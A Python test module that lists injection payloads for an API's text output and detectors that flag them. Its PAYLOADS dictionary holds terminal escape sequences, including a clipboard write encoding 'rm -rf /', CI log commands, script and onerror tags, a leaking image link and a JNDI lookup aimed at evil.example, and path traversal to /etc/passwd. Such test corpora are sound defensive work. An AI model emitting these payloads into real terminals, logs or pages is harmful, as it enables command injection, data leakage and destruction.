"""What a stranger may write into a text of the API, and how to tell whether it got through to a reader."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Iterator

PAYLOADS: dict[str, str] = {
    # A terminal acts upon these.
    "CSI colour": "\x1b[31mred\x1b[0m",
    "CSI that clears the screen": "\x1b[2J\x1b[H",
    "CSI that moves up and rewrites": "\x1b[1A\x1b[2Kno changes",
    "CSI of eight bits": "\x9b31mred",
    "CSI that asks for a report": "\x1b[6n",
    "CSI that scrolls": "\x1b[999S",
    "CSI that hides the cursor": "\x1b[?25l",
    "the other screen": "\x1b[?1049h",
    "OSC title": "\x1b]0;owned\x07",
    "OSC title of eight bits": "\x9d0;owned\x9c",
    "OSC link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "OSC clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "OSC notification": "\x1b]9;hello\x07",
    "DCS": '\x1bP$q"p\x1b\\',
    "DCS of eight bits": "\x90$q\x9c",
    "APC": "\x1b_G...\x1b\\",
    "PM": "\x1b^x\x1b\\",
    "SOS": "\x1bXx\x1b\\",
    "a full reset": "\x1bc",
    "another character set": "\x1b(0lqk",
    "bell": "\x07",
    "backspaces": "ok\x08\x08no",
    "NUL": "a\x00b",
    "DEL": "a\x7fb",
    "shift out": "\x0eabc\x0f",
    "form feed and vertical tab": "a\x0cb\x0bc",
    "next line of C1": "a\x85::error::b",
    # Lines that are none of ours.
    "line feed": "a\n- june/0  destroyed",
    "carriage return": "a long and honest line\rno changes",
    "CRLF": "a\r\nSet-Cookie: x=1",
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "tabs": "a\t\t\tb",
    # Text that reads otherwise than it is.
    "right to left": "\u202egpj.exe",
    "isolates": "\u2066x\u2069 \u2067y\u2068",
    "marks of direction": "a\u200e\u200f\u061cb",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe",
    "word joiner and soft hyphen": "a\u2060b\u00adc",
    "tags that carry a message": "ok\U000e0069\U000e0067\U000e006e",
    "variation selectors that carry a message": "a\ufe01\ufe02\U000e0101b",
    "fillers": "a\u3164\u115f\u1160\uffa0\u034fb",
    "annotation": "\ufff9a\ufffab\ufffb",
    "half a character": "a\ud800b\udc00",
    "private use": "\ue0b0\uf8ff",
    # A CI log acts upon these.
    "GitHub set-output": "::set-output name=plan::ok",
    "GitHub error": "::error file=app.py,line=1::boo",
    "GitHub add-mask": "::add-mask::a",
    "GitHub stop-commands": "::stop-commands::x",
    "GitHub behind blanks": "   ::warning::x",
    "GitHub in the second line": "a\n::error::b",
    "GitHub of old": "##[error]boo",
    "GitHub of old in the middle": "a ##[add-path]/tmp/evil",
    "GitHub of old behind a heading": "###[set-output name=x]y",
    "Azure": "##vso[task.setvariable variable=x]y",
    "TeamCity": "##teamcity[buildStatus status='SUCCESS']",
    "GitLab section": "\x1b[0Ksection_start:1:x\r\x1b[0K",
    "an escaped line end": "a%0A::error::b%0D%0A",
    # A page acts upon these.
    "link": "[click](https://evil.example)",
    "image that tells": "![x](https://evil.example/?leak=1)",
    "reference link": "[x]: https://evil.example",
    "bare address": "https://evil.example/x",
    "bare www": "www.evil.example",
    "mail": "bot@evil.example",
    "HTML image": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "comment that hides the rest": "<!-- hidden",
    "entities": "&lt;b&gt; &#64;admin",
    "table cells": "a | b | c",
    "table cells that are escaped": "a \\| b \\\\| c",
    "backticks": "`rm -rf /`",
    "a fence": "```\n# owned",
    "many backticks": "a `` b ``` c ````",
    "mention": "@acme/admins please merge",
    "issue reference": "fixes #1 and GH-1",
    "formula": "$\\href{https://evil.example}{x}$",
    "emphasis": "**bold** _it_ ~~gone~~",
    "heading": "# heading",
    "task": "- [ ] task",
    # Readers of data act upon these.
    "JSON specials": '","id":1,"x":"',
    "JSON in JSON": '{"success": true, "new_contract": 9001}',
    "a quote and a backslash": '\\" \\u001b[31m \\',
    "a formula of a table program": '=HYPERLINK("https://evil.example")',
    "a format string": "%s%n {0.__class__} ${jndi:ldap://evil.example}",
    "a path": "../../../../etc/passwd",
    # Size.
    "a text of 100,000 letters": "A" * 100_000,
    "a text of 100,000 escapes": "\x1b[31m" * 20_000,
}


_COMMAND = re.compile(r"##[A-Za-z]*\[")
_UNSEEN = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
_SPAN = re.compile(r"(`+)(?!`).+?(?<!`)\1(?!`)")
_ACTS = re.compile(r"<|@|\]\(|!\[|://|www\.|&[a-z#]|\*\*bold|GH-[0-9]|#[0-9]|\$\\", re.IGNORECASE)
LONGEST_LINE = 1500


def flaws_of_text(said: str) -> Iterator[str]:
    """What a terminal, or the log of a CI job, would act upon."""
    for line in said.split("\n"):
        odd = sorted({hex(ord(char)) for char in line if unicodedata.category(char) in _UNSEEN})
        if odd:
            yield f"{odd} in {line[:200]!r}"
        if line.lstrip().startswith("::") or _COMMAND.search(line):
            yield f"a command in {line[:200]!r}"
        if len(line) > LONGEST_LINE:
            yield f"a line of {len(line)} characters: {line[:200]!r}"


def flaws_of_json(said: str) -> Iterator[str]:
    """As of text, in the document as it is written and in each of its texts."""
    yield from flaws_of_text(said)
    if said.strip():
        yield from (flaw for text in _texts(json.loads(said)) for flaw in flaws_of_text(text))
        yield from (f"several lines: {text!r}" for text in _texts(json.loads(said)) if "\n" in text)


def flaws_of_markdown(said: str) -> Iterator[str]:
    """As of text, and what a page would act upon outside of code spans."""
    yield from flaws_of_text(said)
    columns = 0
    for line in said.split("\n"):
        bare = _SPAN.sub("code", line)
        if found := _ACTS.search(bare):
            yield f"{found[0]!r} in {line[:200]!r}"
        # A table's cells end at a bar without a backslash, in a code span too.
        bars = len(re.findall(r"(?<!\\)\|", line)) if line.startswith("|") else 0
        if bars and columns and bars != columns:
            yield f"{bars} bars instead of {columns} in {line[:200]!r}"
        columns = bars
        if bare.startswith((" " * 4, "\t", "```")):
            yield f"a block in {line[:200]!r}"


FLAWS = {"text": flaws_of_text, "json": flaws_of_json, "markdown": flaws_of_markdown}


def _texts(value: object) -> Iterator[str]:
    match value:
        case str():
            yield value
        case dict():
            for name, each in value.items():
                yield name
                yield from _texts(each)
        case list():
            for each in value:
                yield from _texts(each)
